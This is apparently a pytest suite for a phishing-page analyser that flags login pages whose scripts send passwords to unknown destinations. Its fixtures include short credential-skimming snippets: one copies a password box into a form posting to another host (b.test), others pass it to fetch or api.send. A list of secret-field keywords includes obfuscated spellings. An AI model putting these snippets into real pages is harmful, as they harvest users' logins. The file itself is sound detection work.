"""Where secrets go that scripts take along: known, or said to be unknown, and never "nowhere" because nobody could tell."""

import tomllib
from pathlib import Path

import pytest

from scamtriage.parse.html.page import read_page
from scamtriage.parse.html.scripts.secret_words import may_name_secret
from scamtriage.parse.html.scripts.tokens import spelled_out
from scamtriage.records.facts import PageFacts
from scamtriage.records.facts.page_parts import SENT_UNKNOWN
from tests.cost import least_cpu_s, more_cpu_s

SENT = tomllib.loads(Path(__file__).with_name("sent.toml").read_text())
INPUTS = '<input name="user"><input type="password" name="xpw1" id="qq7"><button id="b">OK</button>'
FORM = f'<form id="login" method="post" action="/login.php">{INPUTS}</form>'


def read(script: str, form: str = FORM) -> PageFacts:
    html = f"<!doctype html><h1>Bank</h1>{form}<script>{script}</script>"
    return read_page(body=html.encode(), content_type="text/html", url="https://a.test/x/", host="a.test", suffix="test")[0]


def receivers(facts: PageFacts) -> list[str]:
    return [form.action_host for form in facts.forms if form.method == "script"]


@pytest.mark.parametrize("name", SENT["unknown"])
def test_a_secret_that_scripts_take_to_where_it_is_not_known_is_unknown(name: str) -> None:
    facts = read(SENT["unknown"][name])
    assert (SENT_UNKNOWN in facts.flags, receivers(facts)) == (True, [])


@pytest.mark.parametrize("name", SENT["found"])
def test_a_receiver_that_a_setting_or_an_attribute_gives_is_found(name: str) -> None:
    facts = read(SENT["found"][name])
    assert (SENT_UNKNOWN in facts.flags, receivers(facts)) == (False, ["panel.example"])


@pytest.mark.parametrize("form", [f"<form onsubmit='return go()'>{INPUTS}</form>", f"<form action='#'>{INPUTS}</form>", INPUTS])
def test_what_scripts_alone_can_send_is_unknown_unless_one_is_seen_to_send_it(form: str) -> None:
    assert read("var a = 1", form).flags
    assert not read("b.onclick = () => fetch('/api', {method: 'POST', body: qq7.value})", form).flags
    assert not read("var a = 1", FORM).flags


@pytest.mark.parametrize("name", SENT["honest"])
def test_a_log_in_whose_form_says_where_it_goes_is_known(name: str) -> None:
    facts = read("", SENT["honest"][name])
    assert (SENT_UNKNOWN in facts.flags, receivers(facts)) == (False, [])


@pytest.mark.parametrize(
    ("script", "unknown"),
    [
        ("f.onsubmit = () => new A().s(f.p.value); x.send(1)", True),
        ("b.onclick = () => api.send(document.getElementById('p').value)", True),
        ("b.onclick = () => api.send($('#p').val())", True),
        ("b.onclick = () => api.send(f['p'].value)", True),
        ("function size(p) { return p.value } api.send(size(c)); $('p').hide(); a.p = 3; m.get('k')", False),
    ],
)
def test_a_box_with_a_name_of_one_letter_is_a_box_only_where_it_is_meant(script: str, unknown: bool) -> None:
    form = "<form id=f method=post action=/l><input name=u><input type=password name=p id=p><button id=b>OK</button></form>"
    assert (SENT_UNKNOWN in read(script, form).flags) is unknown


def test_a_page_that_asks_for_no_secret_sends_none() -> None:
    assert not read("fetch(cfg.url, {body: new FormData(f)})", "<form id=f><input name=q></form>").flags


@pytest.mark.parametrize(
    "html",
    [
        f"<script>{'a=b;' * 250_001}</script>",
        "<script>a=b</script>" * 401,
        "".join(f"<b onclick='fetch({number})'>x</b>" for number in range(40)),
    ],
    ids=["long", "many", "handlers"],
)
def test_scripts_that_are_not_read_leave_it_unknown(html: str) -> None:
    assert SENT_UNKNOWN in read("", FORM + html).flags


def test_a_form_of_the_page_that_holds_no_secret_may_take_one() -> None:
    assert (
        SENT_UNKNOWN in read("h.x.value = xpw1.value; h.submit()", f"{FORM}<form name=h action=https://b.test/><input name=x></form>").flags
    )


def test_a_script_too_long_to_be_read_leaves_it_unknown() -> None:
    assert read("fetch(a, {body: 1}); g(xpw1.value);" + "a=b;" * 9_000).flags


@pytest.mark.parametrize(
    ("script", "may"),
    [
        ("var oneTimeCode", True), ("one_time_code", True), ("f.userPin", True), ("x.otp=1", True), ("MẬT KHẨU", True),
        ("cardNumber", True),
        (r"f['\x70\x61ssword']", True), ("f['pa' + 'ss']", True), ("new FormData(f)", True),
        ("a.mine.value", True), ("cardExpiration", True),
        ("spinner.typing(mapping)", False), ("discard(x)", False), ("expiration", False), ("cookie.expires", False),
    ],
)  # fmt: skip
def test_a_script_without_a_word_for_a_secret_is_not_taken_apart(script: str, may: bool) -> None:
    assert may_name_secret(spelled_out(script), frozenset(("mine",)), frozenset()) == may


@pytest.mark.parametrize("one", ["<input type=password name=n{0:05d} id=m{0:05d}>", "<form id=f{0}><input type=password name=q{0}></form>"])
def test_many_names_in_a_long_script_cost_little(one: str) -> None:
    boxes = "".join(one.format(number) for number in range(1_000))
    assert least_cpu_s(lambda: read("fetch(a,{body:zzz});" * 45_000, boxes), within=0.6) <= 0.6


def test_a_long_script_that_names_no_secret_costs_a_log_in_nothing() -> None:
    part = "function f{0}(a){{ if (a > {0}) {{ c.style.color = 'red'; img.src = '/i/{0}.png' }} return fetch('/api/{0}') }}\n"
    script = "".join(part.format(number) for number in range(900))
    read(script), read(script, "<p>Hello</p>")  # whatever is done once is done
    assert more_cpu_s(lambda: read(script), lambda: read(script, "<p>Hello</p>"), within=0.002) <= 0.002
